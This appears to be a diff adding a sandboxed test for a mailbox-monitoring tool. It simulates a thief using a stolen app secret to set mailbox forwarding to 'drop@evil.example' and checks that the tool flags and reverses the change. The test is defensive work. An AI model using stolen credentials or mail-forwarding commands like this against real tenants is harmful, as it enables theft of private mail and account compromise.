@@ -1,0 +1,50 @@
+/** Somebody got hold of our Respond app's secret and uses it elsewhere: that is told as anybody's act would be. */
+import { expect, it } from "vitest"
+import { channelOf } from "../../sandbox/observe.ts"
+import { customer } from "../../sandbox/stories/story.ts"
+import { RESPOND_APP_ID } from "../../sandbox/world/create-world.ts"
+import { createTokens } from "../../src/adapters/entra/tokens.ts"
+import { createMailboxAdmin } from "../../src/adapters/exchange/mailbox-admin.ts"
+import { createHttpClient } from "../../src/adapters/http/http-client.ts"
+import { tenantId } from "../../src/model/ids.ts"
+import { cardOffering, cardsIn, textOf, triageOf, verified } from "./in-teams.ts"
+import { FIX, personNamed, pressAs } from "./press.ts"
+import { practiceForEach } from "./running-practice.ts"
+
+const practice = practiceForEach()
+
+/** As whoever stole it would: with nothing of ours but the secret. */
+function thief() {
+  const { world, endpoints } = practice.cloud
+  const secret = world.apps.find(({ appId }) => appId === RESPOND_APP_ID)?.secret ?? ""
+  const registration = { clientId: RESPOND_APP_ID, credential: { kind: "secret", secret } } as const
+  const registrations = { monitor: registration, respond: registration }
+  const tokens = createTokens({ loginUrl: endpoints.login, registrations, now: Date.now })
+  return createMailboxAdmin({ exchangeUrl: endpoints.exchange, tokens, http: createHttpClient() })
+}
+
+it("raises a card that says so, is stopped like any other, and our own fix of it alerts nobody", async () => {
+  const contoso = customer(practice.cloud, "contoso")
+  const [mailbox] = contoso.mailboxes
+  if (mailbox === undefined) throw new Error("contoso has no mailbox")
+  const parameters = { Identity: mailbox.upn, ForwardingSmtpAddress: "drop@evil.example", Confirm: false }
+
+  await thief().invoke(
+    tenantId(contoso.id),
+    { cmdlet: "Set-Mailbox", parameters },
+    mailbox.upn,
+    AbortSignal.timeout(60_000),
+  )
+
+  const card = await cardOffering(practice, FIX, "drop@evil.example")
+  expect(textOf(card)).toContain("somebody who holds the secret of Watchpost's own app")
+  await pressAs(practice, personNamed(practice.world, "technician"), card, FIX)
+  await verified(practice, card)
+  expect(mailbox.forwardingSmtpAddress).toBeNull()
+  expect(cardsIn(triageOf(practice))).toHaveLength(1)
+  const [told, ...others] = cardsIn(channelOf(practice.world, "customer", "contoso"))
+  if (told === undefined) throw new Error("the customer was told nothing")
+  expect(others).toEqual([])
+  expect(textOf(told)).toContain("Mailbox forwards to an outside address.")
+  expect(textOf(told)).not.toContain("secret")
+})
